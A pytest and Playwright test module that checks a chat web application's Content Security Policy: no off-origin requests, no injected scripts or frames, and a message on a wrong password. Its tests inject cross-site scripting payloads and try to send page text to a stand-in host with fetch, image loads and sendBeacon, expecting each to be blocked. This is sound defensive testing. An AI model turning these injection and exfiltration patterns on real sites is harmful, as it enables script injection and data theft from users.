"""What a real browser lets the page do: its own scripts, nothing from elsewhere, no script that came with a text, no frame."""

from __future__ import annotations

from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
from chat_process import USERS, ChatProcess, chat_process
from test_page_serving import environment

playwright = pytest.importorskip("playwright.sync_api", reason="playwright isn't installed")
expect = playwright.expect
pytest_plugins = ["browser"]
pytestmark = pytest.mark.browser


@pytest.fixture(scope="module")
def chat(tmp_path_factory: pytest.TempPathFactory, built_store: Path) -> Iterator[ChatProcess]:
    folder = tmp_path_factory.mktemp("policy")
    users = folder / "users"
    users.write_text("".join(f"{name}:{password}\n" for name, password in USERS.items()), encoding="utf-8")
    users.chmod(0o600)
    options = ["--port", "0", "--no-history", "--auth", str(users)]
    with chat_process(*options, environment=environment(folder, built_store)) as found:
        yield found


@pytest.fixture
def faults() -> list[str]:
    return []


@pytest.fixture
def page(browser: Any, chat: ChatProcess, faults: list[str]) -> Iterator[Any]:
    """Return the page of the chat; what it says in the console, and what it asks of others, is a fault."""
    profile = browser.new_context()
    page = profile.new_page()
    page.on("console", lambda said: faults.append(said.text) if said.type in ("error", "warning") else None)
    page.on("pageerror", lambda error: faults.append(str(error)))
    page.on("request", lambda sent: faults.append(sent.url) if not is_own(sent.url, chat) else None)
    page.goto(chat.url)
    page.get_by_role("button", name="Login").wait_for()
    yield page
    profile.close()


def is_own(url: str, chat: ChatProcess) -> bool:
    return url.startswith((f"{chat.url}/", "data:", "blob:"))


def log_in(page: Any, password: str) -> None:
    page.get_by_label("username").fill("ann")
    page.get_by_label("password").fill(password)
    page.get_by_role("button", name="Login").click()


def test_the_way_in_and_a_whole_answer_need_nothing_from_elsewhere(page: Any, faults: list[str]) -> None:
    log_in(page, USERS["ann"])
    page.get_by_text("Chest pressure").click()
    page.locator(".report ins").first.wait_for(timeout=60_000)
    page.get_by_role("tab", name="Principles").click()
    page.reload()
    expect(page.locator(".report ins").first).to_be_attached(timeout=30_000)
    assert faults == []


def test_a_wrong_password_is_told(page: Any) -> None:
    log_in(page, "wrong horse")
    expect(page.get_by_text("Incorrect credentials")).to_be_visible()


def test_no_script_runs_that_came_with_a_text(page: Any, faults: list[str]) -> None:
    page.evaluate(
        """() => { document.body.insertAdjacentHTML('beforeend', `
            <img src=x onerror='window.hit=1'><a id=evil href='javascript:window.hit=1'>x</a>
            <svg onload='window.hit=1'></svg><iframe srcdoc='<script>parent.hit=1</script>'></iframe>`);
          document.body.append(Object.assign(document.createElement('script'), {textContent: 'window.hit=1'}));
          document.getElementById('evil').click(); }"""
    )
    page.wait_for_timeout(500)
    assert page.evaluate("window.hit") is None
    assert any("Content Security Policy" in fault for fault in faults)


@pytest.mark.parametrize("way", ["fetch(url)", "new Image().src = url", "navigator.sendBeacon(url, 'text')"])
def test_no_text_leaves_the_page_for_elsewhere(page: Any, faults: list[str], way: str) -> None:
    reached: list[str] = []
    page.on("requestfinished", lambda sent: reached.append(sent.url))
    page.evaluate(f"async () => {{ const url = 'http://192.0.2.1/?text'; try {{ await ({way}) }} catch {{}} }}")
    page.wait_for_timeout(300)
    assert not [url for url in reached if "192.0.2.1" in url]
    assert any("Content Security Policy" in fault for fault in faults)
